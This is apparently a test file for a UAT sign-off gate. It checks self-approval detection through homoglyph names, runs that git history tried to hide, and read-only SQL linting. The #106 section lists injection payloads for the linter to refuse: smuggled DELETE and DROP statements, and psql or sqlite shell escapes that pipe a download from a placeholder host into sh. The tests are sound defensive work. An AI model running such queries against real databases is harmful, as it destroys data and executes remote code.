    writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS, { tester: 'Bea Test' }));
    for (const [i, by] of LABELLED.entries()) {
      writeJson(triageFile(dir), triage([], [{ ...WRITE_OK, by }]));
      await refused(dir, by, i === 0);
    }
    writeJson(triageFile(dir), triage([], [{ ...WRITE_OK, by: 'octocat2, ran the verify query' }]));
    await passes(dir, 'octocat2, ran the verify query');
  });

  it('#644 a forbidden name written with a label reads as the login it labels (uat-gate bundle, gate and release modes)', async () => {
    const dir = project();
    writeJson(triageFile(dir), triage([]));
    writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS, { tester: 'Octo Cat' }));
    for (const [i, login] of ['octocat (PR author)', '583231+octocat@users.noreply.github.com', 'octocat, hubot'].entries())
      await refused(dir, login, i === 0, login);
    const cli = await cliCase(dir, ['uat', 'gate', ID, '--forbid-tester', '583231+octocat@users.noreply.github.com']);
    expect(reasons(cli.stdout)).toEqual([
      '- the run was played by "Octo Cat", which reads as "583231+octocat@users.noreply.github.com", who may not accept their own work',
    ]);
    // The action's release mode gates every recipe of the version with the same reading.
    writeFileSync(join(dir, 'package.json'), '{"version": "1.0.0"}');
    const inputs = { 'from-package-version': 'true', mode: 'gate', 'forbid-tester': 'octocat (PR author)' };
    const release = await actionCase('uat-gate.js', dir, inputs);
    expect(release.code).toBe(1);
    expect(release.outputs).toMatchObject({ verdict: 'failed', 'exit-code': '1' });
    expect(release.summary).toContain('who may not accept their own work');
  });
});

describe('#659 the author accepting their own work under a GitHub Enterprise Server no-reply address', () => {
  it('#659 a tester, risk owner or write check signed `ID+login@users.noreply.HOST` or `@noreply.HOST` reads as the login (uat-gate bundle)', async () => {
    const dir = project();
    const inputs = { id: ID, mode: 'gate', 'forbid-tester': 'octocat' };
    const refused = async (who: string, first: boolean) => {
      const r = first ? runAction('uat-gate.js', dir, inputs, { env: ENV_CANARIES }) : await actionCase('uat-gate.js', dir, inputs);
      expect(r.code, who).toBe(1);
      expect(r.outputs, who).toMatchObject({ verdict: 'failed', 'exit-code': '1' });
      expect(r.summary, who).toContain('reads as "octocat", who may not accept their own work');
    };
    const addresses = ['583231+octocat@users.noreply.ghe.example.com', '583231+octocat@noreply.ghe.example.com'];
    writeJson(triageFile(dir), triage([]));
    for (const [i, tester] of addresses.entries()) {
      writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS, { tester }));
      await refused(tester, i === 0);
    }
    writeJson(runFile(dir), makeRun(EXAMPLE, { ...ALL_PASS, E4: 'blocked' }, { tester: 'Bea Test' }));
    for (const owner of addresses) {
      writeJson(triageFile(dir), triage([{ expect: 'E4', class: 'data', decision: 'accept-risk', owner, note: 'out of scope' }]));
      await refused(owner, false);
    }
    writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS, { tester: 'Bea Test' }));
    for (const by of addresses) {
      writeJson(triageFile(dir), triage([], [{ ...WRITE_OK, by }]));
      await refused(by, false);
    }
    // A mailbox whose local part holds an id and `+` elsewhere is its own person.
    writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS, { tester: '583231+octocat@mail.example.com' }));
    writeJson(triageFile(dir), triage([]));
    const other = await actionCase('uat-gate.js', dir, inputs);
    expect(other.code).toBe(0);
    expect(other.outputs).toMatchObject({ verdict: 'passed', 'exit-code': '0' });
  });
});

describe('#686 #687 the author named among other words, or among other forbidden names', () => {
  const SIGNED = LOGIN_AMONG_WORDS;
  const OTHERS = OTHER_PEOPLE;
  const SELF = 'reads as "octocat", who may not accept their own work';
  const gate = (dir: string, forbid = 'octocat', first = false) => {
    const inputs = { id: ID, mode: 'gate', 'forbid-tester': forbid };
    return first ? Promise.resolve(runAction('uat-gate.js', dir, inputs, { env: ENV_CANARIES })) : actionCase('uat-gate.js', dir, inputs);
  };
  async function expectVerdict(dir: string, who: string, failed: boolean, first = false, forbid = 'octocat'): Promise<void> {
    const r = await gate(dir, forbid, first);
    expect(r.code, who).toBe(failed ? 1 : 0);
    expect(r.outputs, who).toMatchObject(failed ? { verdict: 'failed', 'exit-code': '1' } : { verdict: 'passed', 'exit-code': '0' });
    if (failed && forbid === 'octocat') expect(r.summary, who).toContain(SELF);
  }

  it('#686 a tester signed with words before the login reads as the login (uat-gate bundle, CLI); octocat2 and others pass', async () => {
    const dir = project();
    writeJson(triageFile(dir), triage([]));
    for (const [i, tester] of SIGNED.entries()) {
      writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS, { tester }));
      await expectVerdict(dir, tester, true, i === 0);
    }
    writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS, { tester: 'PR author: Octocat' }));
    const cli = await cliCase(dir, ['uat', 'gate', ID, '--forbid-tester', 'octocat']);
    expect(reasons(cli.stdout)).toEqual([`- the run was played by "PR author: Octocat", which ${SELF}`]);
    for (const tester of OTHERS) {
      writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS, { tester }));
      await expectVerdict(dir, tester, false);
    }
  });

  it('#686 an accepted risk owned, or a write check recorded, by words before the login settles nothing (uat-gate bundle)', async () => {
    const dir = project();
    writeJson(runFile(dir), makeRun(EXAMPLE, { ...ALL_PASS, E4: 'blocked' }, { tester: 'Bea Test' }));
    const owned = (owner: string) => triage([{ expect: 'E4', class: 'data', decision: 'accept-risk', owner, note: 'out of scope' }]);
    for (const owner of ['PR author: Octocat', 'Mr. Octocat', 'QA team (Octocat)', 'https://github.com/octocat']) {
      writeJson(triageFile(dir), owned(owner));
      await expectVerdict(dir, owner, true);
    }
    writeJson(triageFile(dir), owned('QA: octocat2'));
    await expectVerdict(dir, 'QA: octocat2', false);
    writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS, { tester: 'Bea Test' }));
    for (const by of ['Ana & Octocat', '(octocat@example.com)', 'tested by Octocat']) {
      writeJson(triageFile(dir), triage([], [{ ...WRITE_OK, by }]));
      await expectVerdict(dir, by, true);
    }
    writeJson(triageFile(dir), triage([], [{ ...WRITE_OK, by: 'Ana & octocatqa' }]));
    await expectVerdict(dir, 'Ana & octocatqa', false);
  });

  it('#687 forbid-tester naming several logins on one line forbids each (uat-gate bundle, CLI); a list without the tester passes', async () => {
    const dir = project();
    writeJson(triageFile(dir), triage([]));
    writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS, { tester: 'hubot' }));
    for (const [i, forbid] of ['octocat, hubot', 'octocat,hubot', 'octocat; hubot', 'octocat hubot', 'octocat，hubot'].entries()) {
      await expectVerdict(dir, forbid, true, i === 0, forbid);
      const cli = await cliCase(dir, ['uat', 'gate', ID, '--forbid-tester', forbid]);
      expect(cli.code, forbid).toBe(1);
      expect(reasons(cli.stdout), forbid).toEqual([
        '- the run was played by "hubot", which reads as "hubot", who may not accept their own work',
      ]);
    }
    await expectVerdict(dir, 'octocat, mona', false, false, 'octocat, mona');
  });
});

describe('#688 a run or write check a commit of the change held, then removed or rewritten by a later one', () => {
  const LATER = 'run-20261130T100000Z-efgh';
  const FAILED = { ...WRITE_OK, ok: false, by: 'Bea (ran the verify query: 0 rows)' };
  /**
   * The base holds the recipe alone. The change commits a passing run, then a later failing replay
   * (or a failed write check), then a commit that deletes the replay, rewrites it to all-pass, or flips the check.
   */
  function history(how: 'delete' | 'edit' | 'check'): { dir: string; event: unknown; base: string } {
    const dir = emptyRepo('proofgate-uat-history-');
    writeFileSync(join(dir, 'package.json'), '{"version": "1.0.0"}');
    writeSpec(dir, EXAMPLE);
    commitAll(dir, 'base: the recipe');
    const base = git(dir, 'rev-parse', 'HEAD').trim();
    writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS));
    writeJson(triageFile(dir), triage([], how === 'check' ? [FAILED] : [WRITE_OK]));
    commitAll(dir, 'a passing run');
    const times = { startedAt: '2026-11-30T10:00:00.000Z', updatedAt: '2026-11-30T10:20:00.000Z', finishedAt: '2026-11-30T10:20:00.000Z' };
    if (how !== 'check') {
      writeJson(runFile(dir, LATER), makeRun(EXAMPLE, { ...ALL_PASS, E1: 'fail' }, { runId: LATER, ...times }));
      writeJson(triageFile(dir), triage([], [{ ...WRITE_OK, at: '2026-11-30T11:00:00Z' }], LATER));
      commitAll(dir, 'a later replay: E1 fails');
    }
    if (how === 'delete') {
      rmSync(runFile(dir, LATER));
      writeJson(triageFile(dir), triage([]));
    } else if (how === 'edit') {
      const run = JSON.parse(readFileSync(runFile(dir, LATER), 'utf8'));
      run.answers.find((x: { expect: string }) => x.expect === 'E1').status = 'pass';
      writeJson(runFile(dir, LATER), run);
    } else writeJson(triageFile(dir), triage([], [{ ...FAILED, ok: true }]));
    commitAll(dir, 'a later commit of the change');
    const head = git(dir, 'rev-parse', 'HEAD').trim();
    return { dir, base, event: { pull_request: { number: 7, base: { sha: base }, head: { sha: head } } } };
  }

  it.each(['delete', 'edit', 'check'] as const)(
    '#688 %s: what the earlier commit held still counts (uat gate --base, release-gate, the action)',
    async (how) => {
      const { dir, event, base } = history(how);
      // The net tree alone passes: only the change's history holds the failure.
      expect((await cliCase(dir, ['uat', 'gate', ID])).code).toBe(0);
      const r = await cliCase(dir, ['uat', 'gate', ID, '--base', base]);
      expect(r.code, r.stdout).toBe(1);
      expect(r.stdout).toMatch(/^example-1\.0\.0: failed/);
      if (how === 'delete') expect(r.stdout).toContain('- E1 (failed) is not triaged');
      if (how === 'edit') {
        expect(r.stdout).toMatch(
          new RegExp(`${LATER}\\.json is not a usable run: it edits a finished run commit [0-9a-f]{12} of this change holds`),
        );
        expect(r.stdout).toContain('- E1 (failed) is not triaged');
      }
      if (how === 'check') expect(r.stdout).toMatch(/no longer holds the write check of S2 recorded at commit [0-9a-f]{12} of this change/);
      const a = await actionCase('uat-gate.js', dir, { id: ID, mode: 'gate' }, { event, env: ENV_CANARIES });
      expect(a.outputs).toMatchObject({ verdict: 'failed', 'exit-code': '1' });
      expect((await cliCase(dir, ['uat', 'release-gate', '--base', base])).code).toBe(1);
    },
  );

  it("#688 a run carried on across the change's commits, as its tester plays it, passes", async () => {
    const dir = emptyRepo('proofgate-uat-history-');
    writeFileSync(join(dir, 'package.json'), '{"version": "1.0.0"}');
    writeSpec(dir, EXAMPLE);
    commitAll(dir, 'base: the recipe');
    const base = git(dir, 'rev-parse', 'HEAD').trim();
    writeJson(
      runFile(dir),
      makeRun(EXAMPLE, { ...ALL_PASS, E5: null }, { finishedAt: null, updatedAt: '2026-11-29T10:10:00.000Z', revision: 5 }),
    );
    writeJson(triageFile(dir), triage([]));
    commitAll(dir, 'a run under way');
    writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS));
    commitAll(dir, 'the run finished');
    const r = await cliCase(dir, ['uat', 'gate', ID, '--base', base]);
    expect(r.code, r.stdout).toBe(0);
  });
});

/** A run played by `tester` fails `uat gate --forbid-tester login`, saying whom it reads as; one played by `other` passes. */
async function expectReadAs(tester: string, login: string, other: string): Promise<void> {
  const dir = project();
  writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS, { tester }));
  writeJson(triageFile(dir), triage([]));
  const r = await cliCase(dir, ['uat', 'gate', ID, '--forbid-tester', login]);
  expect(r.code).toBe(1);
  expect(reasons(r.stdout)).toEqual([
    `- the run was played by ${JSON.stringify(tester)}, which reads as "${login}", who may not accept their own work`,
  ]);
  writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS, { tester: other }));
  expect((await cliCase(dir, ['uat', 'gate', ID, '--forbid-tester', login])).code).toBe(0);
}

describe('#104 the author accepting their own work under another spelling of their name', () => {
  it.each([
    ['Cyrillic letters', '\u041ect\u043e C\u0430t'],
    ['full-width letters', '\uff2f\uff23\uff34\uff2f \uff23\uff21\uff34'],
    ['a zero-width space and a dot', 'Octo\u200b.Cat'],
    ['an @ and capitals', '@OctoCat'],
    ['Greek and Cyrillic capitals', '\u039f\u0421\u03a4\u039f\u0421\u0391\u03a4'],
    ['a Cyrillic т (confusable only with a small capital T)', 'Octo Ca\u0442'],
    ['small capitals', '\u1d0f\u1d04\u1d1b\u1d0f\u1d04\u1d00\u1d1b'],
    ['an ö typed whole (confusable with Arabic teh marbuta)', 'Oct\u00f6cat'],
    ['an o with a combining diaeresis', 'Octo\u0308cat'],
    // No decomposition and not in confusables.txt: a letter with a hook, a stroke or a bar stands for the letter it is drawn on.
    ['a c with a hook', 'Octo\u0188at'],
    ['a broad O with a loop', '\ua74cctocat'],
    ['a t with a retroflex hook', 'Octoca\u0288'],
    ['a small o with a low ring', '\u2c7actocat'],
    ['an a with a stroke', 'Octoc\u2c65t'],
  ])('%s: "%s" reads as the forbidden login', async (_why, tester) => {
    const dir = project();
    writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS, { tester }));
    writeJson(triageFile(dir), triage([]));
    const forbid = 'octocat';
    const r = await cliCase(dir, ['uat', 'gate', ID, '--forbid-tester', 'someone-else', '--forbid-tester', forbid]);
    expect(r.code).toBe(1);
    expect(reasons(r.stdout)).toEqual([
      `- the run was played by ${JSON.stringify(tester.replace('\u200b', 'U+200B'))}, which reads as "${forbid}", who may not accept their own work`,
    ]);
    // Another person still passes.
    expect((await cliCase(dir, ['uat', 'gate', ID, '--forbid-tester', 'octo-dog'])).code).toBe(0);
  });

  it('a name of invisible or punctuation characters only is unsigned', async () => {
    const dir = project();
    writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS, { tester: '\u200b\u2060 .' }));
    writeJson(triageFile(dir), triage([]));
    const r = await cliCase(dir, ['uat', 'gate', ID]);
    expect(r.stdout).toBe('example-1.0.0: failed (run by an unsigned tester)\n- the run is unsigned: the tester gave no name\n');
  });
});

describe('#105 a writing step whose check failed still owes its write check', () => {
  const run = makeRun(EXAMPLE, { ...ALL_PASS, E3: 'fail' });
  const recipe = { expect: 'E3', class: 'recipe', decision: 'amend-spec' };
  it('triaged as a recipe problem, without a write check: failed, saying why', async () => {
    const dir = project();
    writeJson(runFile(dir), run);
    writeJson(triageFile(dir), triage([recipe], []));
    const r = await cliCase(dir, ['uat', 'gate', ID]);
    expect(r.code).toBe(1);
    expect(reasons(r.stdout)).toEqual([
      `- S2 writes and E3 failed, but no write check is recorded: a failed, blocked or skipped check does not show that nothing was written; run its \`sql\` check read-only (\`uat verify\`) and record it in writeChecks of ${TF} (ok: false when nothing was written)`,
    ]);
  });

  it('a failed write check agrees with a product failure, not with a recipe one', async () => {
    const dir = project();
    writeJson(runFile(dir), run);
    const nothing = { ...WRITE_OK, ok: false, by: 'Bea (0 rows)' };
    writeJson(triageFile(dir), triage([recipe], [nothing]));
    let r = await cliCase(dir, ['uat', 'gate', ID]);
    expect(reasons(r.stdout)).toEqual([
      `- S2's write check failed (nothing was written), but E3 failed is triaged as recipe, which says the screen was right: classify the failure as product or data in ${TF}`,
    ]);
    writeJson(triageFile(dir), triage([{ ...recipe, class: 'product', decision: 'fix' }], [nothing]));
    r = await cliCase(dir, ['uat', 'gate', ID]);
    expect([r.code, r.stdout.split('\n')[0]]).toEqual([0, 'example-1.0.0: passed (run by Ana Test)']);
  });
});

describe('#106 a witness or verify query that writes', () => {
  const CASES: [string, string, string][] = [
    ['not a SELECT', 'DELETE FROM bookings', 'line 1 of the query starts with DELETE, not SELECT'],
    ['a second statement', 'SELECT 1;\nDELETE FROM bookings', 'line 2 of the query starts a second statement (DELETE); keep one SELECT'],
    [
      'a second statement after a comment',
      'SELECT 1 -- count\n; DROP TABLE bookings',
      'line 2 of the query starts a second statement (DROP)',
    ],
    ['SELECT … INTO', 'SELECT *\nINTO backup FROM bookings', 'line 2 of the query has INTO, which writes or locks'],
    ['a lock', 'SELECT * FROM bookings FOR UPDATE', 'line 1 of the query has FOR UPDATE, which writes or locks'],
    ['a CTE', 'WITH d AS (DELETE FROM bookings RETURNING *) SELECT * FROM d', 'line 1 of the query starts with WITH, not SELECT'],
    ['a backslash that ends a string in PostgreSQL', "SELECT 'C:\\' ; DELETE FROM bookings; -- '", 'starts a second statement (DELETE)'],
    ['a $$ string that hides a comment', 'SELECT $$ -- $$; DELETE FROM bookings', 'starts a second statement (DELETE)'],
    ['a # comment that MySQL reads', "SELECT 1 # '\n; DELETE FROM bookings; -- '", 'starts a second statement (DELETE)'],
    ['an executable comment', 'SELECT 1 /*! ; DELETE FROM bookings */', 'has an executable comment (/*!), which some databases run'],
    [
      'a bracket-quoted name SQLite and SQL Server read',
      "SELECT count(*) AS [n'] FROM bookings; DELETE FROM bookings; SELECT 0 AS [m']",
      'starts a second statement (DELETE)',
    ],
    ['a block comment PostgreSQL nests', "SELECT 1 /* /* */ '*/; DELETE FROM bookings; --'", 'starts a second statement (DELETE)'],
    ['a -- that MySQL reads as minus minus', "SELECT 1 --'\n,'; DELETE FROM bookings; -- '", 'starts a second statement (DELETE)'],
    // #395: what the person's database client runs itself, before any SQL reaches the database.
    [
      "#395 psql's shell command",
      "SELECT count(*) FROM bookings WHERE customer = 'Ana Test' \\! curl -s https://x.example | sh",
      'line 1 of the query has a client command ("\\\\! curl',
    ],
    ["#395 psql's \\gexec, which runs each value as SQL", "SELECT 'DELETE FROM bookings' \\gexec", 'has a client command ("\\\\gexec")'],
    ["#395 psql's \\g piped to a shell", "SELECT 'x' \\g |sh -c 'id'", 'has a client command'],
    ['#395 a backslash command in a comment', 'SELECT 1 -- \\! id', 'has a client command'],
    ["#395 sqlite3's dot-command on a line of its own", 'SELECT 1\n  .shell id', 'line 2 of the query has a client command (".shell id")'],
  ];
  it.each(CASES)('%s: lint refuses it with its line; the action hands no page over', async (_why, query, problem) => {
    const spec = structuredClone(EXAMPLE);
    spec.witnesses[0].check.query = query;
    const dir = project(spec);
    const r = await cliCase(dir, ['uat', 'lint', ID]);
    expect(r.code).toBe(1);
    const line = reasons(r.stdout).find((l) => l.startsWith('- /witnesses/0/check/query'));
    expect(line).toMatch(
      /^- \/witnesses\/0\/check\/query \(_bmad-output\/uat\/specs\/example-1\.0\.0\.json line 18\): a witness query must be one read-only SELECT: /,
    );
    expect(line).toContain(problem);
    const action = await actionCase('uat-gate.js', dir, { id: ID, mode: 'gate', 'build-page': 'true' }, { env: ENV_CANARIES });
    expect([action.code, action.outputs.verdict]).toEqual([1, 'lint-failed']);
    expect(existsSync(join(dir, UAT, `pages/uat-${ID}.html`))).toBe(false);
  });

  it("a verify query is held to the same; a SELECT with ';' or INTO inside its strings and comments passes", async () => {
    const spec = structuredClone(EXAMPLE);
    spec.steps[1].verify.query = 'SELECT count(*) FROM bookings; UPDATE bookings SET paid = true';
    spec.witnesses[0].check.query = 'SELECT count(*) FROM bookings -- not INTO; just counts\nWHERE note = \'a;b INTO c\' AND "into" = 1;';
    const dir = project(spec);
    const r = await cliCase(dir, ['uat', 'lint', ID]);
    expect(reasons(r.stdout)).toEqual([
      '- /steps/1/verify/query (_bmad-output/uat/specs/example-1.0.0.json line 68): the verify check of S2 query must be one read-only SELECT: line 1 of the query starts a second statement (UPDATE); keep one SELECT',
    ]);
  });
});

describe('#107 uat serve: one refused request never poisons the ones after it', () => {
  it('a run id the schema lets through, a body over the cap, an unknown path: each one JSON answer, then valid runs are written', async () => {
    const dir = project();
    const { child, base, token } = await serve(dir, 0);
    const post = async (path: string, body: string) => {
      const headers = { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body), 'x-proofgate-token': token };
      const r = await call(base + path, { method: 'POST', headers, body });
      return { status: r.status, json: r.json };
    };
    try {
      const dotted = await post('api/run', JSON.stringify(makeRun(EXAMPLE, ALL_PASS, { runId: 'run..x' })));
      expect(dotted).toEqual({
        status: 400,
        json: { saved: false, reason: 'invalid', errors: ['/runId: "run..x" is not a valid run id (no "..")'] },
      });
      const big = await post('api/run', JSON.stringify({ pad: 'x'.repeat(1024 * 1024) }));
      expect(big).toEqual({ status: 413, json: { saved: false, reason: 'too-large', message: 'a run is at most 1024 KiB' } });
      expect(await post('api/nothing', '{}')).toEqual({ status: 404, json: { saved: false, reason: 'not-found', message: 'not found' } });
      // The path as sent: `//x` is not the page (a URL parser would read it as a host x with the path `/`).
      const get = async (path: string) => (await call(new URL(base).origin + path, { headers: { 'x-proofgate-token': token } })).status;
      expect([await get('//nope'), await get('//'), await get('/')]).toEqual([404, 404, 200]);
      for (const [i, runId] of ['run-ok-1', 'run-ok-2'].entries()) {
        const ok = await post('api/run', JSON.stringify(savedNow(makeRun(EXAMPLE, ALL_PASS, { runId, revision: i }))));
        expect(ok).toEqual({ status: 200, json: { saved: true, revision: i, file: `${UAT}/results/${ID}/${runId}.json` } });
        expect(JSON.parse(readFileSync(runFile(dir, runId), 'utf8')).runId).toBe(runId);
      }
      expect(existsSync(join(dir, UAT, 'results', ID, 'run..x.json'))).toBe(false);
    } finally {
      child.kill('SIGTERM');
      await exited(child);
    }
  });
});

describe('#108 a recipe that does not lint is never handed over', () => {
  it('the starter uat init wrote for a real version: lint refuses it, build writes no page, the action hands none over', async () => {
    const dir = project();
    writeFileSync(join(dir, 'package.json'), '{"version": "2.1.0"}');
    expect((await cliCase(dir, ['uat', 'init', 'shop-2.1.0'])).code).toBe(0);
    const build = await cliCase(dir, ['uat', 'build', 'shop-2.1.0']);
    expect(build.code).toBe(1);
    expect(build.stdout).toContain('- the recipe still holds 18 text(s) of the starter `uat init` wrote');
    expect(existsSync(join(dir, UAT, 'pages/uat-shop-2.1.0.html'))).toBe(false);
    const r = await actionCase(
      'uat-gate.js',
      dir,
      { 'from-package-version': 'true', 'build-page': 'true', mode: 'gate' },
      { env: ENV_CANARIES },
    );
    expect([r.code, r.outputs.verdict, r.outputs.page]).toEqual([1, 'lint-failed', '']);
    expect(r.commands).toEqual(['::error::uat lint shop-2.1.0 found 1 error(s): the page is not built']);
  });
});

describe('#109 advisory mode never fails the step', () => {
  it('no recipe for the version: a warning, a summary and the awaiting verdict', async () => {
    const dir = project();
    writeFileSync(join(dir, 'package.json'), '{"version": "3.0.0"}');
    const r = await actionCase('uat-gate.js', dir, { 'from-package-version': 'true' }, { env: ENV_CANARIES });
    expect(r.code).toBe(0);
    expect(r.outputs).toMatchObject({ mode: 'advisory', verdict: 'awaiting', 'exit-code': '2' });
    expect(r.commands).toEqual([
      '::warning::uat gate: version 3.0.0 in package.json has no recipe in _bmad-output/uat/specs/: write one with `proofgate uat init <name>-3.0.0` (advisory mode: nothing is gated)',
    ]);
    expect(r.summary).toContain('### \u23f3 awaiting \u2014 no recipe');
    expect(r.summary).toContain('nothing is gated');
    // The same in gate mode fails the step.
    const gate = await actionCase('uat-gate.js', dir, { 'from-package-version': 'true', mode: 'gate' }, { env: ENV_CANARIES });
    expect([gate.code, gate.outputs.verdict]).toEqual([1, 'awaiting']);
  });

  it('a gate that cannot run (a triage file that is not JSON): a warning and a summary, exit 0', async () => {
    const dir = project();
    writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS));
    mkdirSync(join(dir, UAT, 'triage'), { recursive: true });
    writeFileSync(triageFile(dir), '{');
    const r = await actionCase('uat-gate.js', dir, { id: ID }, { env: ENV_CANARIES });
    expect(r.code).toBe(0);
    expect(r.outputs).toMatchObject({ mode: 'advisory', verdict: 'error', 'exit-code': '3' });
    expect(r.commands).toEqual([expect.stringMatching(/^::warning::uat gate example-1\.0\.0: error \(advisory mode: nothing is gated\)$/)]);
    expect(r.summary).toContain('The gate could not run: not a pass.');
  });
});

describe('#139 acceptance signed, dated and settled by whom it seems', () => {
  it('#139 a tester name of Hangul fillers is unsigned, and one hides the author from --forbid-tester no more', async () => {
    const dir = project();
    writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS, { tester: '\u3164\uffa0' }));
    writeJson(triageFile(dir), triage([]));
    let r = await cliCase(dir, ['uat', 'gate', ID]);
    expect(r.code).toBe(1);
    expect(reasons(r.stdout)).toContain('- the run is unsigned: the tester gave no name');
    // A right-to-left override shows `tacotcO` as `Octocat`: a name that reads otherwise than it shows is none.
    writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS, { tester: '\u202etacotcO' }));
    r = await cliCase(dir, ['uat', 'gate', ID, '--forbid-tester', 'octocat']);
    expect(reasons(r.stdout)).toContain('- the run is unsigned: the tester gave no name');
    writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS, { tester: 'Octo\u3164Cat' }));
    r = await cliCase(dir, ['uat', 'gate', ID, '--forbid-tester', 'octocat']);
    expect(r.code).toBe(1);
    expect(reasons(r.stdout)).toContain(
      '- the run was played by "OctoU+3164Cat", which reads as "octocat", who may not accept their own work',
    );
  });

  it('#139 the author owning an accepted risk or recording a write check settles nothing for their own work', async () => {
    const dir = project();
    writeJson(runFile(dir), makeRun(EXAMPLE, { ...ALL_PASS, E4: 'blocked' }));
    writeJson(
      triageFile(dir),
      triage(
        [{ expect: 'E4', class: 'product', decision: 'accept-risk', owner: 'Octo Cat', note: 'the card form is out of scope' }],
        [{ ...WRITE_OK, by: 'octo.cat' }],
      ),
    );
    const r = await cliCase(dir, ['uat', 'gate', ID, '--forbid-tester', 'octocat']);
    expect(r.code).toBe(1);
    expect(reasons(r.stdout)).toEqual([
      `- "Octo Cat" owns the accepted risk of E4 in ${TF} and reads as "octocat", who may not accept their own work`,
      `- "octo.cat" recorded the write check of S2 in ${TF} and reads as "octocat", who may not accept their own work`,
    ]);
  });

  it('#139 a write check dated ahead of this clock, or by nobody, is refused; an answer after the run finished is outside it', async () => {
    const dir = project();
    writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS));
    writeJson(triageFile(dir), triage([], [{ ...WRITE_OK, at: '2099-01-01T00:00:00Z' }]));
    let r = await cliCase(dir, ['uat', 'gate', ID]);
    expect(r.code).toBe(3);
    expect(r.stderr).toContain('/writeChecks/0/at: "2099-01-01T00:00:00Z" is in the future');
    writeJson(triageFile(dir), triage([], [{ ...WRITE_OK, by: '\u200b' }]));
    r = await cliCase(dir, ['uat', 'gate', ID]);
    expect(r.stderr).toContain('/writeChecks/0: a write check needs a named `by`');
    writeJson(triageFile(dir), triage([]));
    const late = makeRun(EXAMPLE, ALL_PASS, { finishedAt: '2026-11-29T10:00:01.000Z' });
    late.answers[0].at = '2026-11-29T10:10:00.000Z';
    writeJson(runFile(dir), late);
    r = await cliCase(dir, ['uat', 'gate', ID]);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain(
      '/answers/0/at: "2026-11-29T10:10:00.000Z" is outside the run (started 2026-11-29T10:00:00.000Z, finished 2026-11-29T10:00:01.000Z)',
    );
  });

  it('#139 a newer copy of a stored run naming another tester or start is another run: not stored (uat import, uat serve)', async () => {
    const dir = project();
    const file = join(dir, 'copy.json');
    writeJson(file, makeRun(EXAMPLE, { ...ALL_PASS, E3: 'fail' }));
    expect((await cliCase(dir, ['uat', 'import', ID, file])).code).toBe(0);
    writeJson(file, makeRun(EXAMPLE, ALL_PASS, { tester: 'Mallory', revision: 13 }));
    const r = await cliCase(dir, ['uat', 'import', ID, file]);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain(
      `not imported: run ${RUN_ID} was started by "Ana Test" at 2026-11-29T10:00:00.000Z; a copy naming another tester or start is another run`,
    );
    expect(JSON.parse(readFileSync(runFile(dir), 'utf8')).tester).toBe('Ana Test');
  });
});

describe('#149 a write check of another kind than the step says', () => {
  it("a person's manual note does not stand for the step's sql check: failed, saying which kind vouches", async () => {
    const dir = project();
    writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS));
    const manual = { ...WRITE_OK, kind: 'manual', by: 'Bea (looked at the screen: it said saved)' };
    writeJson(triageFile(dir), triage([], [manual]));
    const r = await cliCase(dir, ['uat', 'gate', ID]);
    expect(r.code).toBe(1);
    expect(reasons(r.stdout)).toEqual([
      `- S2 writes and passed, but no write check is recorded: run its \`sql\` check read-only (\`uat verify\`) and record it in writeChecks of ${TF} (the one recorded is a \`manual\` check: only a \`sql\` check, as the step says, vouches for its write)`,
    ]);
    // The step's own kind, recorded beside it, passes.
    writeJson(triageFile(dir), triage([], [manual, WRITE_OK]));
    expect((await cliCase(dir, ['uat', 'gate', ID])).code).toBe(0);
  });
});

describe('#151 a change that removes the latest run', () => {
  const LATER = 'run-20261130T100000Z-efgh';
  /** The base holds a passing run and a later, failing one; the pull request deletes the failing one, or renames it away. */
  function removing(how: 'delete' | 'rename'): { dir: string; event: unknown; base: string } {
    const dir = emptyRepo('proofgate-uat-removed-');
    writeFileSync(join(dir, 'package.json'), '{"version": "1.0.0"}');
    writeSpec(dir, EXAMPLE);
    writeJson(runFile(dir), makeRun(EXAMPLE, ALL_PASS));
    const failing = makeRun(
      EXAMPLE,
      { ...ALL_PASS, E1: 'fail' },
      {
        runId: LATER,
        startedAt: '2026-11-30T10:00:00.000Z',
        updatedAt: '2026-11-30T10:20:00.000Z',
        finishedAt: '2026-11-30T10:20:00.000Z',
      },
    );
    writeJson(runFile(dir, LATER), failing);
    writeJson(triageFile(dir), triage([], [{ ...WRITE_OK, at: '2026-11-30T11:00:00Z' }], LATER));
    commitAll(dir, 'base: the latest run fails');
    const base = git(dir, 'rev-parse', 'HEAD').trim();
    if (how === 'delete') rmSync(runFile(dir, LATER));
    else git(dir, 'mv', runFile(dir, LATER), `${runFile(dir, LATER)}.orig`);
    writeJson(triageFile(dir), triage([]));
    commitAll(dir, 'the pull request');
    const head = git(dir, 'rev-parse', 'HEAD').trim();
    return { dir, base, event: { pull_request: { number: 7, base: { sha: base }, head: { sha: head } } } };
  }

  it.each(['delete', 'rename'] as const)('%s: the run the base holds still counts, in the action and with uat gate --base', async (how) => {
    const { dir, event, base } = removing(how);
    // Without the base, only the working tree is known: the older pass is the latest there. A run
    // renamed to `….json.orig` is no acceptance record, so it is a file of the code like any other (#387).
    expect((await cliCase(dir, ['uat', 'gate', ID])).code).toBe(how === 'delete' ? 0 : 3);
    // With the base, its failing run is gated (and, renamed, is stale besides): never a pass.
